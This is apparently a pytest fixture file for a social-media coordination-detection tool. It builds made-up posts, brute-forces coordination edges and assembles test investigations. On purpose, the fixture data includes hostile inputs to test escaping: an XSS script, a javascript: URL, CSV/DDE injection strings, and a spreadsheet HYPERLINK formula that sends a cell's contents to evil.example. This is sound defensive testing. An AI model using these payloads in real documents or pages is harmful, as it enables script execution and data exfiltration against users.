"""An investigation small enough to check by hand, with everything hostile that posts contain.

Posts are invented; edges are counted here by brute force, so every number in the report has
a second, simpler origin to be compared with.
"""

import random
from collections import defaultdict
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta
from itertools import combinations
from typing import Any

import pyarrow as pa
import pytest

from tocsin.chain.investigation import (
    REJECTIONS,
    TIMELINE,
    CorpusSummary,
    Investigation,
)
from tocsin.detect.coordination import tables
from tocsin.detect.coordination.behaviours import Behaviour
from tocsin.detect.coordination.leaders import LEADERS
from tocsin.detect.coordination.portraits import EMPTY, Portraits
from tocsin.detect.coordination.readings import READINGS
from tocsin.detect.coordination.rhythm import CREATION, HOURS
from tocsin.finding import Finding
from tocsin.posts.keys import key64
from tocsin.posts.ledger import FileLedger
from tocsin.posts.schema import POSTS
from tocsin.shares.kinds import ObjectKind

START = datetime(2024, 3, 4, 7, 30, tzinfo=UTC)
BEHAVIOURS = (
    Behaviour(ObjectKind.URL, 60),
    Behaviour(ObjectKind.TEXT_COPY, 3_600),
    Behaviour(ObjectKind.REPOST, 60),
)
SCRIPT = "<script>window.ran = true</script><img src=x onerror='window.ran = true'>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
HOSTILE_TEXTS = [
    SCRIPT,
    FORMULA,
    "الجسر الجديد مغلق حتى إشعار آخر https://news.example/bridge",
    "הגשר סגור \u202eesrever\u202c עד להודעה חדשה",
    "🔔🔔 Ring the bell! 👩‍👩‍👧‍👦 #bell",
    "W" * 400,
    "nul\x00inside\x07 and </script><!-- and </textarea> and {{ 7*7 }}",
    "-2+3 cmd|' /C calc'!A0",
    "javascript:alert(1)",
    "@SUM(1+1)*cmd",
    "Line one\nline two\n\nline four",
    "桥梁关闭，直至另行通知。",
]
PLAIN_TEXTS = [
    "The harbour bridge will stay closed until Sunday, the council says.",
    "Read this before you drive: the tunnel toll doubles on Monday.",
    "Мост через гавань закрыт до воскресенья.",
    "Le pont du port restera fermé jusqu’à dimanche.",
    "La tarifa del túnel se duplica el lunes.",
]
NAMES = ["harbour_watch", "مراقب_الميناء", "Ünal 🌊", SCRIPT, "=1+1", "x" * 80, None, "nul\x00name"]


@dataclass
class Draft:
    """Posts and shares as they are being made up."""

    posts: list[dict[str, Any]] = field(default_factory=list)
    shares: list[tuple[str, int, datetime, int, int]] = field(default_factory=list)
    labels: dict[int, tuple[str, str]] = field(default_factory=dict)
    accounts: dict[int, dict[str, Any]] = field(default_factory=dict)

    def account(self, platform: str, account_id: str, name: str | None) -> int:
        key = key64("account", platform, account_id)
        self.accounts[key] = {"account_id": account_id, "account_name": name, "platform": platform}
        return key

    def share(self, account: int, kind: str, label: str, text: str, at: datetime) -> None:
        who = self.accounts[account]
        post_id = str(905_874_659_358_453_760 + len(self.posts))
        post_key = key64("post", who["platform"], post_id)
        object_id = key64(kind, label)
        self.labels[object_id] = (kind, label)
        self.shares.append((kind, object_id, at, account, post_key))
        self.posts.append(
            dict.fromkeys(POSTS.names)
            | who
            | {
                "post_id": post_id, "created_at": at, "text": text, "kind": "post",
                "utc_offset_min": 0 if len(self.posts) % 3 else None,
                "lang": "en" if text.isascii() else "ar", "source_line": len(self.posts) + 1,
                "source_file": f"exports/{who['platform']}.jsonl", "reader": "x_api_v2/1",
                "post_key": post_key, "account_key": account, "raw_hash": "0" * 16,
                "urls": [label] if kind == "url" else [], "hashtags": [], "domains": [],
            }
        )  # fmt: skip


def draft_posts(seed: int = 7) -> Draft:
    """Three groups on three platforms, each sharing objects of its own within seconds."""
    dice, draft = random.Random(seed), Draft()  # noqa: S311 - made-up data
    groups = [("x", 12, "url"), ("telegram", 7, "text_copy"), ("bluesky", 4, "repost")]
    for place, (platform, size, kind) in enumerate(groups):
        members = [
            draft.account(platform, f"{platform}-{n:03}", NAMES[n % len(NAMES)])
            for n in range(size)
        ]
        for number in range(9):
            text = (HOSTILE_TEXTS + PLAIN_TEXTS)[(number * 3 + place) % 17]
            label = {
                "url": f"https://news.example/{SCRIPT if number == 2 else 'story'}/{number}?a=1",
                "text_copy": text,
                "repost": str(1_700_000_000_000_000_000 + number),
            }[kind]
            at = START + timedelta(hours=5 * number + place, minutes=dice.randrange(50))
            for account in dice.sample(members, max(3, size * 2 // 3)):
                later = at + timedelta(seconds=dice.randrange(45), microseconds=place * 500_000)
                draft.share(account, kind, label, text, later)
    return draft


def brute_force_edges(draft: Draft) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """Edges and evidence by looking at every pair of shares."""
    edges, evidence = [], []
    for behaviour in BEHAVIOURS:
        pairs = defaultdict(list)
        for one, two in combinations([s for s in draft.shares if s[0] == behaviour.kind.value], 2):
            a, b = sorted((one, two), key=lambda share: share[3])
            lag_s = (b[2] - a[2]).total_seconds()
            if a[1] == b[1] and a[3] != b[3] and abs(lag_s) <= behaviour.window_s:
                pairs[a[3], b[3]].append((a[1], a[4], b[4], lag_s))
        for (a_key, b_key), met in sorted(pairs.items()):
            objects = {row[0] for row in met}
            if len(objects) < behaviour.min_objects:
                continue
            number = len(edges)
            edges.append(edge_row(number, behaviour, a_key, b_key, met))
            evidence += [
                {"edge": number, "object_id": o, "post_a": a, "post_b": b, "lag_s": lag}
                for o, a, b, lag in met
            ]
    return edges, evidence


def edge_row(
    number: int, behaviour: Behaviour, a: int, b: int, met: list[tuple[int, int, int, float]]
) -> dict[str, Any]:
    firsts = {row[0]: row[3] for row in met}
    return {
        "edge": number, "behaviour": behaviour.name, "account_a": a, "account_b": b,
        "objects": len(firsts), "events": len(met), "weight": 1.5 * len(firsts),
        "symmetry": 1.0, "a_first": sum(lag > 0 for lag in firsts.values()),
        "b_first": sum(lag < 0 for lag in firsts.values()),
        "mean_lag_s": sum(abs(row[3]) for row in met) / len(met), "p_value": None, "q_value": None,
        "network": [behaviour.kind for behaviour in BEHAVIOURS].index(behaviour.kind),
    }  # fmt: skip


def account_rows(draft: Draft, edges: list[dict[str, Any]]) -> list[dict[str, Any]]:
    rows = []
    for key in sorted({edge[end] for edge in edges for end in ("account_a", "account_b")}):
        own = [edge for edge in edges if key in (edge["account_a"], edge["account_b"])]
        first = sum(e["a_first"] if e["account_a"] == key else e["b_first"] for e in own)
        times = [share[2] for share in draft.shares if share[3] == key]
        rows.append(
            draft.accounts[key]
            | {
                "account_key": key, "network": own[0]["network"], "degree": len(own),
                "weight": sum(e["weight"] for e in own), "posts": len(times),
                "first_share": first / sum(e["objects"] for e in own),
                "first_at": min(times), "last_at": max(times),
            }
        )  # fmt: skip
    return rows


def network_rows(
    draft: Draft,
    edges: list[dict[str, Any]],
    evidence: list[dict[str, Any]],
    accounts: list[dict[str, Any]],
) -> list[dict[str, Any]]:
    times = {share[4]: share[2] for share in draft.shares}
    rows = []
    for number in sorted({edge["network"] for edge in edges}):
        own = {edge["edge"]: edge for edge in edges if edge["network"] == number}
        members = [row for row in accounts if row["network"] == number]
        seen = [row for row in evidence if row["edge"] in own]
        posts = {row[side] for row in seen for side in ("post_a", "post_b")}
        rows.append(
            {
                "network": number, "accounts": len(members), "pairs": len(own), "edges": len(own),
                "weight": sum(edge["weight"] for edge in own.values()),
                "density": 2 * len(own) / (len(members) * (len(members) - 1)),
                "behaviours": sorted({edge["behaviour"] for edge in own.values()}),
                "platforms": sorted({row["platform"] for row in members}),
                "languages": ["ar", "en"], "objects": len({row["object_id"] for row in seen}),
                "posts": len(posts), "first_at": min(times[post] for post in posts),
                "last_at": max(times[post] for post in posts),
            }
        )  # fmt: skip
    return rows


def calibration_table() -> pa.Table:
    """Some pairs, fewer with accounts exchanged."""
    levels = [10.0**-power for power in range(13)]
    columns = {
        "p_value": levels,
        "expected": [5_000 * level for level in levels],
        "by_chance": [max(9.0 - 4 * power, 0.0) for power in range(13)],
        "observed": [60 - 4 * power for power in range(13)],
    }
    return pa.table(columns, schema=tables.CALIBRATION)


def coordination(draft: Draft) -> tables.Coordination:
    edges, evidence = brute_force_edges(draft)
    accounts = account_rows(draft, edges)
    networks = network_rows(draft, edges, evidence, accounts)
    cited = {row[side] for row in evidence for side in ("post_a", "post_b")}
    objects = [
        {
            "object_id": object_id, "object_kind": kind, "label": label,
            "shares": sum(share[1] == object_id for share in draft.shares),
            "accounts": len({share[3] for share in draft.shares if share[1] == object_id}),
        }
        for object_id, (kind, label) in draft.labels.items()
        if object_id in {row["object_id"] for row in evidence}
    ]  # fmt: skip
    capped = [
        {"behaviour": "url-60s", "object_id": 1, "label": "https://video.example/", "shares": 9_120}
    ]
    finding = Finding(
        "coordination", 1, {"window_s": 60}, "network 1",
        f"{networks[0]['accounts']} accounts shared {networks[0]['objects']} links within 1 min.",
        {"accounts": networks[0]["accounts"]}, tuple(sorted(cited))[:5], START,
    )  # fmt: skip
    return tables.Coordination(
        behaviours=BEHAVIOURS,
        edges=pa.Table.from_pylist(edges, schema=tables.EDGES),
        evidence=pa.Table.from_pylist(evidence, schema=tables.EVIDENCE),
        objects=pa.Table.from_pylist(objects, schema=tables.OBJECTS),
        accounts=pa.Table.from_pylist(accounts, schema=tables.ACCOUNTS),
        networks=pa.Table.from_pylist(networks, schema=tables.NETWORKS),
        capped=pa.Table.from_pylist(capped, schema=tables.CAPPED),
        pairs=tables.PAIRS.empty_table(),
        calibration=calibration_table(),
        test=tables.Test(0.01, 7, 5, 0.2, 5_000, 64, 60, 24, 3_600.0),
        posts=pa.Table.from_pylist([p for p in draft.posts if p["post_key"] in cited], POSTS),
        findings=(finding,),
        caveats=("Times are whole seconds on one platform, so who was first is uncertain there.",),
    )


def portraits(found: tables.Coordination) -> Portraits:
    """The first network fits a reading, of the second one cannot be told, the third has none."""
    said = [
        (0, 0, "fans", "fits", 0.9, 1.0, 0.25),
        (0, 1, "burst", "does not fit", 0.1, 1.2, 1.0),
        (1, 0, "newsroom", "cannot tell", 0.0, None, None),
        (1, 1, "schedule", "does not fit", 0.3, 0.4, 0.2),
        (2, 0, "party", "does not fit", 0.0, None, None),
    ]
    readings = [
        {
            "network": network, "rank": rank, "reading": name, "verdict": verdict,
            "strength": strength, "statement": f"What {name} saw. {SCRIPT} مرحبا",
            "measure": "share of the joint posts", "unit": "ratio" if name == "burst" else "share",
            "seen": seen, "background": usual, "would_change": "The posts of another week.",
            "evidence": [],
        }
        for network, rank, name, verdict, strength, seen, usual in said
    ]  # fmt: skip
    leads = [
        {
            "network": row["network"], "account_key": row["account_key"], "joint": 10,
            "first": 9 if row["network"] == 0 else 2, "share": 0.9, "low": 0.6, "high": 0.98,
            "chance": 0.2, "p_value": 0.00002, "clear": row["network"] == 0,
        }
        for row in found.accounts.to_pylist()
    ]  # fmt: skip
    hours = [
        {"network": network, "hour": hour, "posts": (hour * 7) % 5 + (network is None) * 9}
        for network in (None, 0, 1)
        for hour in range(24)
    ]
    week = datetime(2023, 5, 1, tzinfo=UTC)
    made = [{"network": 0, "start": week, "accounts": 8, "known": 12, "elsewhere": 0.01}]
    return Portraits(
        pa.Table.from_pylist(readings, schema=READINGS),
        pa.Table.from_pylist(leads, schema=LEADERS),
        pa.Table.from_pylist(hours, schema=HOURS),
        pa.Table.from_pylist(made, schema=CREATION),
    )


def ledgers(draft: Draft) -> tuple[FileLedger, ...]:
    count = len(draft.posts)
    return (
        FileLedger(
            "exports/x.jsonl", ("x_api_v2/1",), count + 9, count, {"users": 4, "deletions": 1},
            2, 2, {"id_ruined:external_author_id": 1},
        ),
        FileLedger(
            f"exports/{SCRIPT}.zip!/bad\x00\udcff.csv", ("column_map/1",), 1, 0, {}, 0, 1, {},
            "the file ends in the middle of a record", "Copy the file again.",
        ),
    )  # fmt: skip


def rejections() -> pa.Table:
    rows = [
        {
            "file": "exports/x.jsonl", "line": 40 + n, "reader": "x_api_v2/1", "field": "id",
            "reason": f"the id '9.0{n}E+17' was rounded by a spreadsheet and identifies nothing",
            "remedy": "Import the original export, or re-export with the id column as text.",
        }
        for n in range(2)
    ] + [
        {
            "file": "exports/bad.csv", "line": 1, "reader": None, "field": None,
            "reason": f"unknown shape {SCRIPT}", "remedy": "Give a column map.",
        }
    ]  # fmt: skip
    return pa.Table.from_pylist(rows, schema=REJECTIONS)


def timeline(draft: Draft) -> pa.Table:
    buckets = defaultdict(list)
    for post in draft.posts:
        start = post["created_at"].replace(minute=0, second=0, microsecond=0)
        buckets[start, post["platform"]].append(post["account_id"])
    rows = [
        {"start": start, "platform": platform, "posts": len(ids), "accounts": len(set(ids))}
        for (start, platform), ids in sorted(buckets.items())
    ]
    return pa.Table.from_pylist(rows, schema=TIMELINE)


def corpus_summary(draft: Draft) -> CorpusSummary:
    times = [post["created_at"] for post in draft.posts]
    platforms = [post["platform"] for post in draft.posts]
    languages = [post["lang"] for post in draft.posts]
    return CorpusSummary(
        posts=len(draft.posts),
        accounts=len(draft.accounts),
        platforms={name: platforms.count(name) for name in sorted(set(platforms))},
        languages={name: languages.count(name) for name in sorted(set(languages))},
        kinds={"post": len(draft.posts)},
        first_at=min(times),
        last_at=max(times),
        offset_unknown=sum(post["utc_offset_min"] is None for post in draft.posts),
    )


def make_investigation() -> Investigation:
    draft = draft_posts()
    found = coordination(draft)
    return Investigation(
        title="Harbour bridge, March 2024",
        created_at=datetime(2024, 3, 9, 8, 0, tzinfo=UTC),
        version="0.1.0",
        files=ledgers(draft),
        rejections=rejections(),
        corpus=corpus_summary(draft),
        timeline=timeline(draft),
        bucket_s=3_600,
        coordination=found,
        parameters={"seed": 7, "identities": "pseudonyms", "windows": {"url": 60}, "compat": None},
        caveats=("The files were collected by searching for one link.",),
        portraits=portraits(found),
    )


def make_edgeless() -> Investigation:
    """Posts came in and no two accounts were joined."""
    found = make_investigation()
    joined = found.coordination
    empty = {
        name: getattr(joined, name).slice(0, 0)
        for name in ("edges", "evidence", "objects", "accounts", "networks", "capped", "posts")
    }
    return replace(found, coordination=replace(joined, findings=(), **empty), portraits=EMPTY)


def make_empty() -> Investigation:
    """Nothing came in at all."""
    nothing = CorpusSummary(0, 0, {}, {}, {}, None, None, 0)
    return replace(
        make_edgeless(),
        files=(),
        rejections=REJECTIONS.empty_table(),
        corpus=nothing,
        timeline=TIMELINE.empty_table(),
    )


@pytest.fixture(scope="session")
def investigation() -> Investigation:
    return make_investigation()


@pytest.fixture(scope="session")
def edgeless() -> Investigation:
    return make_edgeless()


@pytest.fixture(scope="session")
def empty() -> Investigation:
    return make_empty()
